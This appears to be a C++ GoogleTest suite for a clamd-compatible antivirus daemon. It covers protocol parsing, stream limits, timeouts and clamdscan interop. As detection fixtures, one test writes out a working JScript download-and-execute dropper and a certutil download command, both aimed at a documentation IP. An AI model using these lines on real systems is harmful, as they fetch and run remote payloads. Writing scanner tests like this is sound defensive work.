// mamorid: the protocol pieces in-process (framing, parsing, INSTREAM decoding, config), then the real daemon on a
// temporary UNIX socket, spoken to byte for byte the way clamd clients do, and (when installed) Debian's clamdscan.
// Every socket read has a timeout and every daemon is killed at the end, so a broken daemon fails tests, never
// hangs them.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <thread>

#include "daemon/config.hpp"
#include "daemon/protocol.hpp"
#include "daemon/spool.hpp"
#include "support/corpus_manifest.hpp"
#include "support/daemon.hpp"
#include "support/files.hpp"
#include "support/pe_builder.hpp"
#include "support/run_cli.hpp"

namespace fs = std::filesystem;
using namespace mamori::daemon;
using namespace std::string_literals;

// ---- in-process: protocol and config ----

TEST(MamoridProtocol, FramesZNAndLegacyCommands) {
  std::string buf("zPING\0nSCAN /a b\r\nVERSION"s);
  RawCommand c;
  ASSERT_EQ(next_command(buf, 1024, c), Framing::command);
  EXPECT_EQ(c.text, "PING");
  EXPECT_EQ(c.term, '\0');
  EXPECT_FALSE(c.legacy);
  ASSERT_EQ(next_command(buf, 1024, c), Framing::command);
  EXPECT_EQ(c.text, "SCAN /a b");
  EXPECT_EQ(c.term, '\n');
  ASSERT_EQ(next_command(buf, 1024, c), Framing::command);
  EXPECT_EQ(c.text, "VERSION");
  EXPECT_TRUE(c.legacy);
  EXPECT_TRUE(buf.empty());

  std::string partial = "zSCAN /no/terminator/yet";
  EXPECT_EQ(next_command(partial, 1024, c), Framing::need_more);
  std::string huge = "z" + std::string(2000, 'A');
  EXPECT_EQ(next_command(huge, 1024, c), Framing::too_long);
}

TEST(MamoridProtocol, ParsesLikeClamd) {
  auto parse = [](const std::string& text, bool legacy = false) { return parse_command(RawCommand{text, '\0', legacy}); };
  EXPECT_EQ(parse("PING").cmd, Cmd::ping);
  EXPECT_EQ(parse("PINGX").cmd, Cmd::unknown);
  EXPECT_EQ(parse("PING extra").cmd, Cmd::unknown);
  EXPECT_EQ(parse("VERSION").cmd, Cmd::version);
  EXPECT_EQ(parse("VERSIONCOMMANDS").cmd, Cmd::versioncommands);
  EXPECT_EQ(parse("VERSIONCOMMANDS", true).cmd, Cmd::unknown);  // must be prefixed
  EXPECT_EQ(parse("INSTREAM", true).cmd, Cmd::unknown);
  EXPECT_EQ(parse("SCAN /tmp/x y").arg, "/tmp/x y");
  EXPECT_EQ(parse("SCAN").cmd, Cmd::unknown);  // needs a path
  EXPECT_EQ(parse("SCAN ").cmd, Cmd::unknown);
  EXPECT_EQ(parse("CONTSCAN /a").cmd, Cmd::contscan);
  EXPECT_EQ(parse("QUIT").cmd, Cmd::shutdown);
  EXPECT_EQ(parse("ping").cmd, Cmd::unknown);  // case-sensitive
  EXPECT_TRUE(allowed_in_session(Cmd::instream));
  EXPECT_FALSE(allowed_in_session(Cmd::contscan));
  EXPECT_EQ(format_reply(0, "PONG", '\0'), "PONG\0"s);
  EXPECT_EQ(format_reply(3, "stream: OK", '\n'), "3: stream: OK\n");
}

TEST(MamoridProtocol, InstreamDecoderHandlesSplitChunksAndTheQuota) {
  std::vector<std::uint8_t> out;
  StreamDecoder d(10);
  std::string buf("\0\0\0\x05"s "hel");
  EXPECT_EQ(d.feed(buf, out), StreamDecoder::State::need_more);
  buf += "lo\0\0"s;
  EXPECT_EQ(d.feed(buf, out), StreamDecoder::State::need_more);  // half a length
  buf += "\0\0"s;
  EXPECT_EQ(d.feed(buf, out), StreamDecoder::State::done);
  EXPECT_EQ(std::string(out.begin(), out.end()), "hello");

  StreamDecoder small(4);
  std::string over("\0\0\0\x03"s "abc" "\0\0\0\x02"s "de");
  out.clear();
  EXPECT_EQ(small.feed(over, out), StreamDecoder::State::too_large);  // 3 + 2 > 4, refused before reading "de"
  StreamDecoder huge(100);
  std::string big_len("\xff\xff\xff\xff"s);
  EXPECT_EQ(huge.feed(big_len, out), StreamDecoder::State::too_large);
}

TEST(MamoridSpool, KeepsSmallStreamsInMemoryAndSpoolsLargeOnesToAnUnlinkedFile) {
  const auto dir = fs::temp_directory_path() / ("mamorid-spool-" + std::to_string(::getpid()));
  fs::remove_all(dir);
  fs::create_directories(dir);
  const std::string a(10, 'a'), b(10, 'b');
  auto u8 = [](const std::string& s) { return reinterpret_cast<const std::uint8_t*>(s.data()); };
  StreamSpool small(16, dir.string());
  ASSERT_TRUE(small.append(u8(a), a.size()).ok());
  EXPECT_FALSE(small.spooled());
  auto m = small.take();
  ASSERT_TRUE(m.ok());
  EXPECT_EQ(std::string(reinterpret_cast<const char*>(m->view().data()), m->view().size()), a);

  StreamSpool big(16, dir.string());
  ASSERT_TRUE(big.append(u8(a), a.size()).ok());
  ASSERT_TRUE(big.append(u8(b), b.size()).ok());
  EXPECT_TRUE(big.spooled());
  EXPECT_EQ(big.size(), 20u);
  EXPECT_TRUE(fs::is_empty(dir));  // O_TMPFILE: nothing with a name
  auto mb = big.take();
  ASSERT_TRUE(mb.ok()) << mb.error().message;
  EXPECT_EQ(std::string(reinterpret_cast<const char*>(mb->view().data()), mb->view().size()), a + b);

  // Past `keep` bytes only the count is kept.
  StreamSpool capped(16, dir.string(), 15);
  ASSERT_TRUE(capped.append(u8(a), a.size()).ok());
  ASSERT_TRUE(capped.append(u8(b), b.size()).ok());
  EXPECT_FALSE(capped.spooled());
  EXPECT_EQ(capped.size(), 20u);
  EXPECT_FALSE(capped.take().ok());

  StreamSpool nowhere(4, (dir / "missing").string());
  const auto st = nowhere.append(u8(a), a.size());
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.error().message.find("TemporaryDirectory"), std::string::npos) << st.error().message;
  fs::remove_all(dir);
}

TEST(MamoridConfig, ReadsClamdOptionsAndWarnsAboutOthers) {
  auto r = parse_config(
      "# comment\nLocalSocket /run/x.ctl\nLocalSocketMode 660\nStreamMaxLength 10M\nMaxThreads 4\nMaxQueue 2\n"
      "TCPSocket 3310\nScanPE yes\nExample\nLogSyslog yes\n");
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(r->config.local_socket, "/run/x.ctl");
  EXPECT_EQ(r->config.local_socket_mode, 0660u);
  EXPECT_EQ(r->config.stream_max_length, 10ull << 20);
  EXPECT_EQ(r->config.max_threads, 4);
  EXPECT_EQ(r->config.max_queue, 4);  // raised to MaxThreads
  EXPECT_EQ(r->config.tcp_port, 3310);
  ASSERT_EQ(r->config.tcp_addr.size(), 1u);
  EXPECT_EQ(r->config.tcp_addr[0], "127.0.0.1");  // loopback unless configured
  EXPECT_TRUE(r->config.log_syslog);
  ASSERT_EQ(r->warnings.size(), 3u);
  EXPECT_NE(r->warnings[0].find("ScanPE"), std::string::npos);
  EXPECT_NE(r->warnings[2].find("MaxQueue"), std::string::npos);

  EXPECT_FALSE(parse_config("MaxThreads lots\n").ok());
  EXPECT_FALSE(parse_config("Foreground maybe\n").ok());
  EXPECT_FALSE(parse_config("LocalSocketMode 999\n").ok());
  EXPECT_FALSE(parse_config("StreamMaxLength\n").ok());
  EXPECT_EQ(*parse_size("4K"), 4096u);
}

// ---- the real daemon ----

namespace {

using mamori::test::be32;
using mamori::test::instream;
using mamori::test::read_all;
using mamori::test::TestDaemon;

// The daemon as these tests run it: verbose log, four workers, plus `extra` config lines.
TestDaemon::Options daemon_config(const std::string& extra) {
  return {"LogVerbose yes\nMaxThreads 4\nMaxQueue 16\n" + extra, {}, {}};
}

fs::path test_dir() { return mamori::test::fresh_test_dir("mamorid"); }

class Mamorid : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = fs::temp_directory_path() / ("mamorid-suite-" + std::to_string(::getpid()));
    fs::remove_all(dir_);
    // Small limits so the limit paths are cheap to reach; short timeouts so the timeout test is quick.
    // StreamSpoolThreshold 16K: streams above it go through a temporary file.
    d_ = new TestDaemon(dir_, daemon_config("StreamMaxLength 200K\nMaxFileSize 100K\nCommandReadTimeout 2\nReadTimeout 2\n"
                                            "StreamSpoolThreshold 16K\n"));
  }
  static void TearDownTestSuite() {
    delete d_;
    d_ = nullptr;
    fs::remove_all(dir_);
  }
  void SetUp() override { ASSERT_TRUE(d_->ready()) << "mamorid did not start:\n" << d_->log(); }
  fs::path write(const std::string& name, const std::string& bytes) {
    const auto p = dir_ / name;
    std::ofstream(p, std::ios::binary) << bytes;
    return p;
  }
  static inline fs::path dir_;
  static inline TestDaemon* d_ = nullptr;
};

}  // namespace

TEST_F(Mamorid, PingInAllThreeForms) {
  EXPECT_EQ(d_->ask("zPING\0"s), "PONG\0"s);
  EXPECT_EQ(d_->ask("nPING\n"), "PONG\n");
  EXPECT_EQ(d_->ask("PING"), "PONG\n");
  EXPECT_EQ(d_->ask("PING\n"), "PONG\n");
}

TEST_F(Mamorid, VersionAndVersionCommands) {
  const auto v = d_->ask("nVERSION\n");
  EXPECT_EQ(v.rfind("mamori " MAMORI_VERSION "/", 0), 0u) << v;
  EXPECT_EQ(v.back(), '\n');
  const auto vc = d_->ask("zVERSIONCOMMANDS\0"s);
  EXPECT_NE(vc.find("| COMMANDS: SCAN QUIT RELOAD PING CONTSCAN VERSIONCOMMANDS VERSION END SHUTDOWN MULTISCAN FILDES "
                    "STATS IDSESSION INSTREAM"),
            std::string::npos)
      << vc;
  EXPECT_EQ(vc.back(), '\0');
}

TEST_F(Mamorid, InstreamOfCleanTextIsOk) {
  EXPECT_EQ(d_->ask(instream("just some notes about the weekly meeting\n")), "stream: OK\0"s);
  EXPECT_EQ(d_->ask(instream("notes", 'n', 2)), "stream: OK\n");
  EXPECT_EQ(d_->ask(instream("")), "stream: OK\0"s);  // an empty stream is still a stream
}

TEST_F(Mamorid, InstreamOverStreamMaxLengthIsRefused) {
  EXPECT_EQ(d_->ask(instream(std::string(300 * 1024, 'a'), 'z', 64 * 1024)), "INSTREAM size limit exceeded. ERROR\0"s);
  // One chunk claiming 4 GiB is refused from its length, before any data.
  EXPECT_EQ(d_->ask("zINSTREAM\0"s + be32(0xFFFFFFFFu) + "x"), "INSTREAM size limit exceeded. ERROR\0"s);
}

TEST_F(Mamorid, OverMaxFileSizeIsFoundNeverSilentlyOk) {
  // MaxFileSize is 100K: the daemon reports what the CLI reports for --max-filesize, through SCAN and INSTREAM.
  const std::string big(150 * 1024, 'b');
  const auto p = write("big.bin", big);
  EXPECT_EQ(d_->ask("zSCAN " + p.string() + '\0'), p.string() + ": Mamori.Limits.Exceeded.FileSize FOUND\0"s);
  EXPECT_EQ(d_->ask(instream(big, 'z', 32 * 1024)), "stream: Mamori.Limits.Exceeded.FileSize FOUND\0"s);
  EXPECT_NE(d_->log().find("Mamori.Limits.Exceeded.FileSize FOUND"), std::string::npos);
}

TEST_F(Mamorid, ScriptsAreScoredBySCANAndINSTREAM) {
  // A JScript dropper (typed as a script from its content) and a one-line batch file that only its .cmd name makes a
  // script: SCAN has the path and scores both; an INSTREAM has no name, so only the first.
  const std::string js = "var s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');\n"
                         "x.open('GET', 'http://198.51.100.7/a.exe', false); x.send();\n"
                         "var b = new ActiveXObject('ADODB.Stream'); b.Open(); b.Type = 1; b.Write(x.responseBody);\n"
                         "b.SaveToFile('C:\\\\Users\\\\Public\\\\a.exe', 2); s.Run('C:\\\\Users\\\\Public\\\\a.exe', 0);\n";
  const std::string cmd = "certutil -urlcache -split -f http://198.51.100.7/p.txt p.exe\r\n";
  const auto pj = write("invoice.js", js);
  const auto pc = write("go.cmd", cmd);
  EXPECT_EQ(d_->ask("zSCAN " + pj.string() + '\0'), pj.string() + ": Mamori.Script.DownloadExecute FOUND\0"s);
  EXPECT_EQ(d_->ask("zSCAN " + pc.string() + '\0'), pc.string() + ": Mamori.Script.CertutilDownload FOUND\0"s);
  EXPECT_EQ(d_->ask(instream(js)), "stream: Mamori.Script.DownloadExecute FOUND\0"s);
  EXPECT_EQ(d_->ask(instream(cmd)), "stream: OK\0"s);
}

TEST_F(Mamorid, ScanOfPathsFilesFoldersAndErrors) {
  const auto p = write("notes.txt", "hello");
  EXPECT_EQ(d_->ask("zSCAN " + p.string() + '\0'), p.string() + ": OK\0"s);
  EXPECT_EQ(d_->ask("SCAN " + p.string() + "\n"), p.string() + ": OK\n");
  EXPECT_EQ(d_->ask("zSCAN /no/such/file\0"s), "/no/such/file: File path check failure: No such file or directory. ERROR\0"s);
  const auto rel = d_->ask("zSCAN relative/path\0"s);
  EXPECT_EQ(rel.rfind("relative/path: ", 0), 0u) << rel;
  EXPECT_EQ(rel.substr(rel.size() - 7), " ERROR\0"s) << rel;

  const auto folder = dir_ / "folder";
  fs::create_directories(folder / "sub");
  std::ofstream(folder / "a.txt") << "clean";
  std::ofstream(folder / "sub" / "b.bin") << std::string(120 * 1024, 'c');
  std::ofstream(folder / "sub" / "c.bin") << std::string(130 * 1024, 'c');
  // CONTSCAN reports every detection and no OK; SCAN stops at the first.
  const auto cont = d_->ask("nCONTSCAN " + folder.string() + "\n");
  EXPECT_NE(cont.find((folder / "sub" / "b.bin").string() + ": Mamori.Limits.Exceeded.FileSize FOUND\n"), std::string::npos) << cont;
  EXPECT_NE(cont.find((folder / "sub" / "c.bin").string() + ": Mamori.Limits.Exceeded.FileSize FOUND\n"), std::string::npos) << cont;
  EXPECT_EQ(cont.find(": OK"), std::string::npos) << cont;
  const auto scan = d_->ask("nSCAN " + folder.string() + "\n");
  EXPECT_EQ(std::count(scan.begin(), scan.end(), '\n'), 1) << scan;
  fs::remove_all(folder / "sub");
  EXPECT_EQ(d_->ask("nMULTISCAN " + folder.string() + "\n"), folder.string() + ": OK\n");
}

TEST_F(Mamorid, IdSessionAnswersEachCommandWithItsId) {
  const int fd = d_->connect();
  ASSERT_GE(fd, 0);
  const auto p = write("session.txt", "hello");
  const std::string req = "zIDSESSION\0zPING\0zVERSION\0"s + instream("abc") + "zSCAN " + p.string() + '\0' + "zEND\0"s;
  ::send(fd, req.data(), req.size(), MSG_NOSIGNAL);
  const auto r = read_all(fd);
  ::close(fd);
  const auto v = d_->ask("zVERSION\0"s);
  EXPECT_EQ(r, "1: PONG\0"s + "2: " + v + "3: stream: OK\0"s + "4: " + p.string() + ": OK\0"s) << r;

  // Inside a session, bare commands and commands clamd refuses there end it with an error.
  EXPECT_EQ(d_->ask("nIDSESSION\nnPING\nnCONTSCAN /tmp\n"), "1: PONG\n2: Command invalid inside IDSESSION. ERROR\n");
  EXPECT_EQ(d_->ask("zIDSESSION\0PING"s),
            "1: Only new-line terminated nCMDS or NULL-terminated zCMDS are accepted inside IDSESSION. ERROR\n");
  EXPECT_EQ(d_->ask("zEND\0"s), "UNKNOWN COMMAND\0"s);
}

TEST_F(Mamorid, MalformedCommandsGetUnknownCommand) {
  EXPECT_EQ(d_->ask("zHELLO\0"s), "UNKNOWN COMMAND\0"s);
  EXPECT_EQ(d_->ask("nPING PONG\n"), "UNKNOWN COMMAND\n");
  EXPECT_EQ(d_->ask("INSTREAM\n"), "UNKNOWN COMMAND\n");  // INSTREAM needs a prefix
  EXPECT_EQ(d_->ask("zSCAN\0"s), "UNKNOWN COMMAND\0"s);
  std::string too_long(20001, 'A');
  too_long[0] = 'z';
  EXPECT_EQ(d_->ask(too_long), "Error processing command. ERROR\n");
  EXPECT_EQ(d_->ask("zPING\0"s), "PONG\0"s);
}

TEST_F(Mamorid, DisconnectsAndStallsMidStreamDoNotBlockOthers) {
  // Four clients (as many as the workers) start an INSTREAM and stall half-way; two more hang up mid-chunk.
  std::vector<int> stalled;
  for (int i = 0; i < 4; ++i) {
    const int fd = d_->connect();
    ASSERT_GE(fd, 0);
    const std::string part = "zINSTREAM\0"s + be32(1000) + std::string(10, 'x');
    ::send(fd, part.data(), part.size(), MSG_NOSIGNAL);
    stalled.push_back(fd);
  }
  for (int i = 0; i < 2; ++i) {
    const int fd = d_->connect();
    const std::string part = "zINSTREAM\0"s + be32(5000) + std::string(100, 'y');
    ::send(fd, part.data(), part.size(), MSG_NOSIGNAL);
    ::close(fd);
  }
  // Others are served meanwhile, and quickly.
  const auto t0 = std::chrono::steady_clock::now();
  for (int i = 0; i < 5; ++i) EXPECT_EQ(d_->ask(instream("fine")), "stream: OK\0"s);
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(1));
  // The stalled clients are dropped after ReadTimeout (2 s) with clamd's message.
  for (int fd : stalled) {
    EXPECT_EQ(read_all(fd), "COMMAND READ TIMED OUT\n");
    ::close(fd);
  }
  EXPECT_EQ(d_->ask("zPING\0"s), "PONG\0"s);
}

TEST_F(Mamorid, SilentClientTimesOut) {
  const int fd = d_->connect();
  const auto t0 = std::chrono::steady_clock::now();
  EXPECT_EQ(read_all(fd), "COMMAND READ TIMED OUT\n");
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(5));
  ::close(fd);
}

TEST_F(Mamorid, FildesScansAPassedDescriptor) {
  const auto p = write("passed.txt", "passed by descriptor");
  const int file = ::open(p.c_str(), O_RDONLY | O_CLOEXEC);
  ASSERT_GE(file, 0);
  const auto r = d_->fildes(file);
  ::close(file);
  EXPECT_EQ(r.rfind("fd[", 0), 0u) << r;
  EXPECT_NE(r.find("]: OK\0"s), std::string::npos) << r;
  // FILDES without a descriptor.
  EXPECT_EQ(d_->ask("zFILDES\0x"s), "No file descriptor received. ERROR\0"s);
}

TEST_F(Mamorid, PeVerdictMatchesTheCli) {
  mamori::test::PeSpec s;
  s.sections.push_back({".text", mamori::test::scn_code, std::vector<std::uint8_t>(2048, 0xC3)});
  s.imports.push_back({"KERNEL32.dll", {mamori::test::ImportFn::by_name("ExitProcess")}});
  const auto bytes = mamori::test::build_pe(s).bytes;
  const auto p = write("a.exe", std::string(bytes.begin(), bytes.end()));
  // The CLI's line for the same file, same engine, same model.
  const std::string cli = mamori::test::run_mamori({"scan", "--no-summary", p.string()}).out;
  EXPECT_EQ(d_->ask("nSCAN " + p.string() + "\n"), cli);
  const auto verdict = cli.substr(p.string().size());  // ": OK\n" or ": <Name> FOUND\n"
  EXPECT_EQ(d_->ask(instream(std::string(bytes.begin(), bytes.end()), 'n')), "stream" + verdict);
}

TEST_F(Mamorid, SpooledStreamsGetTheSameVerdictAsFiles) {
  // A PE padded past StreamSpoolThreshold (16K): spooled to a temporary file, mapped, scanned like the file.
  mamori::test::PeSpec s;
  s.sections.push_back({".text", mamori::test::scn_code, std::vector<std::uint8_t>(40 * 1024, 0x90)});
  s.imports.push_back({"KERNEL32.dll", {mamori::test::ImportFn::by_name("ExitProcess")}});
  const auto bytes = mamori::test::build_pe(s).bytes;
  const std::string pe(bytes.begin(), bytes.end());
  ASSERT_GT(pe.size(), 16u * 1024);
  const auto p = write("spooled.exe", pe);
  const auto file_reply = d_->ask("nSCAN " + p.string() + "\n");
  ASSERT_EQ(file_reply.rfind(p.string() + ": ", 0), 0u) << file_reply;
  EXPECT_EQ(d_->ask(instream(pe, 'n', 5000)), "stream" + file_reply.substr(p.string().size()));
  EXPECT_EQ(d_->ask(instream(std::string(90 * 1024, 't'), 'z', 7000)), "stream: OK\0"s);
  EXPECT_NE(d_->log().find("INSTREAM spooled to a temporary file"), std::string::npos);
}

TEST_F(Mamorid, BadStreamsGetTheirRepliesWhileOthersAreServed) {
  // Three misbehaving clients at once: a chunk length too short (the surplus data is read as the next length,
  // 0x41414141, over StreamMaxLength), a chunk length too long (the daemon waits for data that never comes until
  // ReadTimeout), and a stream over StreamMaxLength; good clients keep getting answers meanwhile.
  auto start = [&](const std::string& bytes) {
    const int fd = d_->connect();
    ::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL);
    return fd;
  };
  const int too_short = start("zINSTREAM\0"s + be32(4) + "AAAA" + "AAAA" + "AAAA" + be32(0));
  const int too_long = start("zINSTREAM\0"s + be32(100) + "only ten b" + be32(0));
  const int over = start(instream(std::string(250 * 1024, 'o'), 'z', 50 * 1024));
  for (int i = 0; i < 10; ++i) EXPECT_EQ(d_->ask(instream("fine " + std::to_string(i))), "stream: OK\0"s);
  EXPECT_EQ(read_all(too_short), "INSTREAM size limit exceeded. ERROR\0"s);
  EXPECT_EQ(read_all(over), "INSTREAM size limit exceeded. ERROR\0"s);
  EXPECT_EQ(read_all(too_long), "COMMAND READ TIMED OUT\n");
  for (int fd : {too_short, too_long, over}) ::close(fd);
  EXPECT_EQ(d_->ask("zPING\0"s), "PONG\0"s);
}

TEST_F(Mamorid, StatsHasClamdShape) {
  const auto s = d_->ask("nSTATS\n");
  EXPECT_EQ(s.rfind("POOLS: 1\n\nSTATE: VALID PRIMARY\nTHREADS: live 4  idle ", 0), 0u) << s;
  EXPECT_NE(s.find("\nQUEUE: "), std::string::npos);
  EXPECT_EQ(s.substr(s.size() - 4), "END\n");
  // mamori's own lines appear only when their feature is on (tests in onaccess_test / quarantine_daemon_test).
  EXPECT_EQ(s.find("ONACCESS:"), std::string::npos) << s;
  EXPECT_EQ(s.find("QUARANTINE:"), std::string::npos) << s;
  EXPECT_NE(s.find("pools_total N/A\nEND\n"), std::string::npos) << s;
}

TEST(MamoridProcess, ReloadKeepsConnectionsAndShutdownStops) {
  const auto dir = test_dir();
  fs::remove_all(dir);
  TestDaemon d(dir, daemon_config(""));
  ASSERT_TRUE(d.ready()) << d.log();
  const int session = d.connect();
  std::string req = "zIDSESSION\0zPING\0"s;
  ::send(session, req.data(), req.size(), MSG_NOSIGNAL);
  char buf[64] = {};
  ASSERT_EQ(::recv(session, buf, 8, MSG_WAITALL), 8);
  EXPECT_EQ(std::string(buf, 8), "1: PONG\0"s);
  EXPECT_EQ(d.ask("zRELOAD\0"s), "RELOADING\0"s);
  for (int i = 0; i < 50 && d.log().find("Models reloaded") == std::string::npos; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  EXPECT_NE(d.log().find("Models reloaded"), std::string::npos) << d.log();
  req = "zPING\0zEND\0"s;
  ::send(session, req.data(), req.size(), MSG_NOSIGNAL);
  EXPECT_EQ(read_all(session), "2: PONG\0"s);
  ::close(session);
  EXPECT_EQ(d.ask("zSHUTDOWN\0"s), "");
  EXPECT_EQ(d.wait_exit(), 0);
  EXPECT_FALSE(fs::exists(d.socket()));  // the socket file is removed
  fs::remove_all(dir);
}

// RELOAD swaps the models under streams that are half sent: they finish on the connection they started on.
TEST(MamoridProcess, ReloadDuringStreamsDropsNone) {
  const auto dir = test_dir();
  fs::remove_all(dir);
  TestDaemon d(dir, daemon_config(""));
  ASSERT_TRUE(d.ready()) << d.log();
  std::vector<int> streams;
  for (int i = 0; i < 6; ++i) {
    const int fd = d.connect(30);
    ASSERT_GE(fd, 0);
    const std::string head = "zINSTREAM\0"s + be32(6) + "first ";
    ::send(fd, head.data(), head.size(), MSG_NOSIGNAL);
    streams.push_back(fd);
  }
  EXPECT_EQ(d.ask("zRELOAD\0"s), "RELOADING\0"s);
  for (int i = 0; i < 100 && d.log().find("Models reloaded") == std::string::npos; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  ASSERT_NE(d.log().find("Models reloaded"), std::string::npos) << d.log();
  EXPECT_EQ(d.ask("zRELOAD\0"s), "RELOADING\0"s);  // a second one while they are still open
  for (int fd : streams) {
    const std::string tail = be32(7) + "second\n" + be32(0);
    ::send(fd, tail.data(), tail.size(), MSG_NOSIGNAL);
  }
  for (int fd : streams) {
    EXPECT_EQ(read_all(fd), "stream: OK\0"s);
    ::close(fd);
  }
  EXPECT_EQ(d.log().find("timed out"), std::string::npos) << d.log();
  fs::remove_all(dir);
}

TEST(MamoridProcess, UnusableTemporaryDirectoryFailsOnlyLargeStreams) {
  const auto dir = test_dir();
  fs::remove_all(dir);
  TestDaemon d(dir, daemon_config("StreamSpoolThreshold 1K\nTemporaryDirectory " + (dir / "missing").string() + "\n"));
  ASSERT_TRUE(d.ready()) << d.log();
  EXPECT_EQ(d.ask(instream(std::string(4096, 'x'))), "Error writing to temporary file. ERROR\0"s);
  EXPECT_EQ(d.ask(instream("small")), "stream: OK\0"s);
  EXPECT_NE(d.log().find("TemporaryDirectory"), std::string::npos) << d.log();
  fs::remove_all(dir);
}

TEST(MamoridProcess, BadConfigFailsToStartWithAMessage) {
  const auto dir = test_dir();
  fs::remove_all(dir);
  fs::create_directories(dir);
  std::ofstream(dir / "bad.conf") << "MaxThreads many\n";
  const auto r = mamori::test::run_program(MAMORID_BINARY, {"--config", (dir / "bad.conf").string()});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE((r.out + r.err).find("line 1: MaxThreads"), std::string::npos) << r.out << r.err;
  fs::remove_all(dir);
}

TEST(MamoridProcess, ClamdscanInterop) {
  if (!fs::exists("/usr/bin/clamdscan")) GTEST_SKIP() << "clamdscan is not installed (apt-get install clamdscan)";
  const auto dir = test_dir();
  fs::remove_all(dir);
  TestDaemon d(dir, daemon_config("StreamMaxLength 1M\nMaxFileSize 100K\n"));
  ASSERT_TRUE(d.ready()) << d.log();
  std::ofstream(dir / "clamd.conf") << "LocalSocket " << d.socket() << "\nStreamMaxLength 1M\n";
  std::ofstream(dir / "clean.txt") << "nothing to see here\n";
  std::ofstream(dir / "big.bin") << std::string(200 * 1024, 'z');
  const std::vector<std::vector<std::string>> modes = {{"--stream"}, {}, {"--fdpass"}, {"--stream", "-m"}, {"--fdpass", "-m"}};
  for (const auto& mode_args : modes) {
    std::vector<std::string> args{"30", "/usr/bin/clamdscan", "--config-file=" + (dir / "clamd.conf").string(), "--no-summary"};
    args.insert(args.end(), mode_args.begin(), mode_args.end());
    args.push_back((dir / "clean.txt").string());
    args.push_back((dir / "big.bin").string());
    const auto r = mamori::test::run_program("/usr/bin/timeout", args);
    const std::string out = r.out + r.err;
    const std::string mode = mode_args.empty() ? "" : mode_args[0] + (mode_args.size() > 1 ? " " + mode_args[1] : "");
    EXPECT_EQ(r.exit_code, 1) << mode << "\n" << out;  // 1 = something found
    EXPECT_NE(out.find((dir / "clean.txt").string() + ": OK\n"), std::string::npos) << mode << "\n" << out;
    EXPECT_NE(out.find((dir / "big.bin").string() + ": Mamori.Limits.Exceeded.FileSize FOUND\n"), std::string::npos)
        << mode << "\n" << out;
  }
  fs::remove_all(dir);
}

// Issue 5's acceptance with real files: Debian's clamdscan, through SCAN, --stream (INSTREAM) and --fdpass (FILDES),
// reports what `mamori scan` reports for corpus PE files, malicious and benign. Skips without clamdscan or the
// corpus.
TEST(MamoridProcess, ClamdscanInteropOnCorpusFiles) {
  if (!fs::exists("/usr/bin/clamdscan")) GTEST_SKIP() << "clamdscan is not installed (apt-get install clamdscan)";
  std::vector<std::string> files;
  std::size_t mal = 0, ben = 0;
  for (const auto& r : mamori::test::corpus_rows()) {
    if (r.kind != "pe" || !fs::exists(r.path) || fs::file_size(r.path) > (20u << 20)) continue;
    if (r.label == "malicious" && mal < 5) ++mal, files.push_back(r.path);
    else if (r.label == "benign" && ben < 3) ++ben, files.push_back(r.path);
  }
  if (mal < 5 || ben < 3) GTEST_SKIP() << "the corpus is not here (/tmp/mamori-corpus/manifest.tsv)";
  const auto dir = test_dir();
  fs::remove_all(dir);
  TestDaemon d(dir, daemon_config(""));
  ASSERT_TRUE(d.ready()) << d.log();
  std::ofstream(dir / "clamd.conf") << "LocalSocket " << d.socket() << "\n";
  // The CLI's lines are the reference; clamdscan prints the same "path: OK" / "path: NAME FOUND" per file.
  std::vector<std::string> scan_args{"scan", "--no-summary"};
  scan_args.insert(scan_args.end(), files.begin(), files.end());
  const std::string cli = mamori::test::run_mamori(scan_args).out;
  std::vector<std::string> want;
  for (const auto& f : files) {
    const auto at = cli.find(f + ": ");
    ASSERT_NE(at, std::string::npos) << cli;
    want.push_back(cli.substr(at, cli.find('\n', at) - at + 1));
  }
  EXPECT_NE(cli.find(" FOUND\n"), std::string::npos) << "no corpus file found by the CLI:\n" << cli;
  EXPECT_NE(cli.find(": OK\n"), std::string::npos) << cli;
  for (const std::string mode : {"", "--stream", "--fdpass"}) {
    std::vector<std::string> args{"120", "/usr/bin/clamdscan", "--config-file=" + (dir / "clamd.conf").string(), "--no-summary"};
    if (!mode.empty()) args.push_back(mode);
    args.insert(args.end(), files.begin(), files.end());
    const auto r = mamori::test::run_program("/usr/bin/timeout", args);
    const std::string out = r.out + r.err;
    for (const auto& w : want) EXPECT_NE(out.find(w), std::string::npos) << mode << ": " << w << out;
  }
  fs::remove_all(dir);
}

// A client that asks for a long reply and stops reading holds its worker only until the send times out
// (ReadTimeout): the worker then drops it, stops the scan, and serves others. With one worker, the wait another
// client sees is bounded by that timeout.
TEST(MamoridProcess, AClientThatStopsReadingHoldsAWorkerOnlyUntilTheSendTimeout) {
  const auto dir = test_dir();
  fs::remove_all(dir);
  fs::create_directories(dir / "many");
  // 3000 files over MaxFileSize: 3000 FOUND lines (about 300 KB), more than a UNIX socket buffers.
  for (int i = 0; i < 3000; ++i) std::ofstream(dir / "many" / ("f" + std::to_string(i) + ".bin")) << std::string(1100, 'x');
  TestDaemon d(dir, daemon_config("MaxFileSize 1K\nReadTimeout 2\nMaxThreads 1\nMaxQueue 4\n"));
  ASSERT_TRUE(d.ready()) << d.log();
  const int slow = d.connect(30);
  ASSERT_GE(slow, 0);
  const std::string cmd = "nCONTSCAN " + (dir / "many").string() + "\n";
  ::send(slow, cmd.data(), cmd.size(), MSG_NOSIGNAL);
  std::this_thread::sleep_for(std::chrono::milliseconds(500));  // the worker is now blocked writing to it
  const auto t0 = std::chrono::steady_clock::now();
  EXPECT_EQ(d.ask("zPING\0"s), "PONG\0"s);
  const double waited = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  EXPECT_LT(waited, 6.0);  // ReadTimeout 2 s, plus a loaded machine's slack
